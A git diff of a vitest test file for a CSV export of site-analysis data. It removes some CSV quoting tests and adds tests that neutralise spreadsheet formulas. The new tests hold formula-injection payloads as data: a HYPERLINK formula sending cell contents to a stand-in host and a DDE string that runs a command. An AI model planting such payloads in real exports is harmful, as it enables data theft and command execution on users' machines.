@@ -1,8 +1,8 @@
 import { describe, expect, it } from 'vitest';
-import { csvField, sitesToCsv, sitesToGeoJson } from '../../../src/analysis/export-sites';
+import { sitesToCsv, sitesToGeoJson } from '../../../src/analysis/export-sites';
 import { analyzeHubAccess } from '../../../src/analysis/hub-analysis';
 import { buildSiteRows, type SiteRow } from '../../../src/analysis/site-rows';
-import { miniLayers, snapshot } from '../../fixtures/analysis/mini-layers';
+import { FAR, miniLayers, snapshot } from '../../fixtures/analysis/mini-layers';
 
 const layers = miniLayers();
 const analysis = analyzeHubAccess(layers);
@@ -41,32 +41,6 @@ function readCsv(text: string): string[][] {
   records.pop(); // the empty record after the final CRLF
   return records;
 }
-
-describe('csvField', () => {
-  it('leaves a plain field as it is, æøå included', () => {
-    expect(csvField('Lillestrøm Åråsen')).toBe('Lillestrøm Åråsen');
-  });
-
-  it('quotes a field with a comma', () => {
-    expect(csvField('Berger, Skedsmo')).toBe('"Berger, Skedsmo"');
-  });
-
-  it('doubles quotes inside a quoted field', () => {
-    expect(csvField('"knapt med ledig areal"')).toBe('"""knapt med ledig areal"""');
-  });
-
-  it('quotes a field with a line break', () => {
-    expect(csvField('linje 1\nlinje 2')).toBe('"linje 1\nlinje 2"');
-  });
-
-  it('quotes a field with a bare carriage return, which spreadsheets also read as a line break', () => {
-    expect(csvField('linje 1\rlinje 2')).toBe('"linje 1\rlinje 2"');
-  });
-
-  it('writes null as an empty field, not 0 or "null"', () => {
-    expect(csvField(null)).toBe('');
-  });
-});
 
 describe('sitesToCsv', () => {
   const tricky: SiteRow = { ...rows[0]!, id: 'tricky', name: 'Sørum "nye", Blaker\r\nog Rånåsfoss' };
@@ -110,6 +84,26 @@ describe('sitesToCsv', () => {
   it('leaves an unknown figure empty', () => {
     const header = records[0]!;
     expect(records.find((record) => record[0] === 'lost')![header.indexOf('rail_distance_m')]).toBe('');
+  });
+
+  it('neutralises a formula in a shared link’s proposal name and in the data, so a spreadsheet shows it as text', () => {
+    const formula = '=HYPERLINK("https://example.invalid/?"&A1;"klikk")';
+    const proposals = [{ mode: 'rail' as const, name: formula, position: [FAR[0]!, FAR[1]!] as const }];
+    const withProposal = analyzeHubAccess(layers, { proposals });
+    const proposalRows = buildSiteRows(layers, withProposal, ['business-areas']);
+    const dataRow: SiteRow = { ...proposalRows[0]!, id: 'data', name: '@SUM(1+1)*cmd|"/C calc"!A0' };
+    const read = readCsv(sitesToCsv([...proposalRows, dataRow], assumptions).slice(1));
+    const header = read[0]!;
+    const far = read.find((record) => record[0] === 'far')!;
+    expect(far[header.indexOf('nearest_rail_name')]).toBe(`'${formula}`);
+    expect(read.at(-1)![header.indexOf('name')]).toBe(`'@SUM(1+1)*cmd|"/C calc"!A0`);
+  });
+
+  it('leaves no text cell starting with a formula character in a semicolon-separated variant either', () => {
+    const dialect = { delimiter: ';' as const, formatNumber: (value: number) => String(value).replace('.', ',') };
+    const dataRow: SiteRow = { ...rows[0]!, name: '-2+3;=1' };
+    const csv = sitesToCsv([dataRow], assumptions, { byteOrderMark: false, dialect });
+    expect(csv.split('\r\n')[1]).toContain(`;"'-2+3;=1";`);
   });
 
   it('still writes the header for an empty table', () => {
